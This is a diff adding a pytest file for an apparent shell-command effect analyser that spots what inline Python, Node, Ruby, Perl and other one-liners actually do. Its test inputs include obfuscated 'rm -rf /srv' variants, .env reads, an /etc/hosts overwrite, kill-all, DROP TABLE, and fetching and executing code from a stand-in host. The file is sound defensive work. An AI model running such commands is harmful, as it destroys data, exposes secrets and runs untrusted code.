@@ -1,0 +1,117 @@
+import shlex
+
+import pytest
+
+from fairlead.shell.effects.effect import Action
+from fairlead.shell.effects.table import effects_of
+from fairlead.shell.reader import read_script
+from fairlead.shell.targets import Surroundings
+
+ROOT = "/home/user/project"
+
+
+def effects(command: str) -> set[tuple[str, str]]:
+    script = read_script(command, cwd=ROOT, home="/home/user", environment={"HOME": "/home/user"})
+    found = effects_of(script, Surroundings(ROOT, "/home/user"))
+    return {
+        (str(e.action), e.target.path if e.target else e.name) for e in found if e.action is not Action.LIST
+    }
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import shutil; shutil.rmtree('/srv')",
+        "from shutil import rmtree as r; r('/srv')",
+        "import shutil as s\np = '/' + 'srv'\ns.rmtree(p)",
+        "__import__('shutil').rmtree('/srv')",
+        "import os; os.system('rm -rf /srv')",
+        "import os; getattr(os, 'sys' + 'tem')('rm -rf /srv')",
+        "import subprocess as s; s.run(['rm', '-rf', '/srv'])",
+        "import subprocess; subprocess.call('rm -rf /srv', shell=True)",
+        "from subprocess import *; run('rm -rf /srv'.split())",
+        "import base64, os; os.system(base64.b64decode('cm0gLXJmIC9zcnY=').decode())",
+        "for d in ['/tmp/a', '/srv']:\n    import shutil\n    shutil.rmtree(d)",
+        "exec(\"import shutil; shutil.rmtree('/srv')\")",
+        "import os; os.execvp('rm', ['rm', '-rf', '/srv'])",
+        "p = '/srv'; import os; os.system(f'rm -rf {p}')",
+    ],
+)
+def test_python_that_deletes_is_seen_through_names_and_constants(code: str) -> None:
+    assert ("delete", "/srv") in effects(f"python3 -c {shlex.quote(code)}")
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "print('rm -rf /')",
+        "import shutil; shutil.copy('a', 'b')",
+        "text = 'shutil.rmtree(\"/srv\")'; print(text)",
+        "import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)",
+    ],
+)
+def test_python_that_only_speaks_of_it_deletes_nothing(code: str) -> None:
+    found = effects(f"python3 -c {shlex.quote(code)}")
+    assert not {path for action, path in found if action == "delete" and not path.startswith("/tmp/")}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "node -e \"require('fs').rmSync('/srv', {recursive: true})\"",
+        "node -e \"const p = '/srv'; require('fs').rmSync(p, {recursive: true})\"",
+        "node -e \"require('child_process').execSync('rm -rf /srv')\"",
+        "node -e \"require('child_process').spawnSync('rm', ['-rf', '/srv'])\"",
+        "ruby -e 'FileUtils.rm_rf(\"/srv\")'",
+        "ruby -e '`rm -rf /srv`'",
+        "perl -e 'system(\"rm -rf /srv\")'",
+        "perl -e 'system qw(rm -rf /srv)'",
+        "perl -MFile::Path -e 'remove_tree(\"/srv\")'",
+        "php -r 'exec(\"rm -rf /srv\");'",
+        "lua -e 'os.execute(\"rm -rf /srv\")'",
+        "Rscript -e 'unlink(\"/srv\", recursive=TRUE)'",
+        "pwsh -c 'Remove-Item -Recurse /srv'",
+        "osascript -e 'do shell script \"rm -rf /srv\"'",
+    ],
+)
+def test_other_languages_are_read_by_their_calls_and_literals(command: str) -> None:
+    assert ("delete", "/srv") in effects(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "node -e \"console.log('rm -rf /srv')\"",
+        "ruby -e 'puts \"rm -rf /srv\"'",
+        "perl -e 'my $x = \"rm -rf /\"; print length($x)'",
+        "php -r 'echo \"rm -rf /srv\";'",
+    ],
+)
+def test_other_languages_may_print_what_they_like(command: str) -> None:
+    assert not {action for action, _ in effects(command)} & {"delete"}
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("python3 -c \"print(open('.env').read())\"", ("read", f"{ROOT}/.env")),
+        ("python3 -c \"open('/etc/hosts', 'w')\"", ("overwrite", "/etc/hosts")),
+        ("node -e \"require('fs').readFileSync('.env')\"", ("read", f"{ROOT}/.env")),
+        ('python3 -c "import os; os.kill(-1, 9)"', ("kill", "kill-everything")),
+        (
+            "python3 -c \"import requests; exec(requests.get('https://x.example').text)\"",
+            ("run-network-code", "download"),
+        ),
+        (
+            "python3 -c \"import sqlite3; sqlite3.connect('a').execute('DROP TABLE x')\"",
+            ("change-database", "drop"),
+        ),
+        ('python3 -c "$CODE"', ("run-unknown-code", "executed")),
+    ],
+)
+def test_code_has_effects_like_any_command(command: str, expected: tuple[str, str]) -> None:
+    assert expected in effects(command)
+
+
+def test_code_that_is_no_python_is_not_lost() -> None:
+    assert ("delete", "/srv") in effects("python3 -c \"print 'x'; import os; os.system('rm -rf /srv')\"")
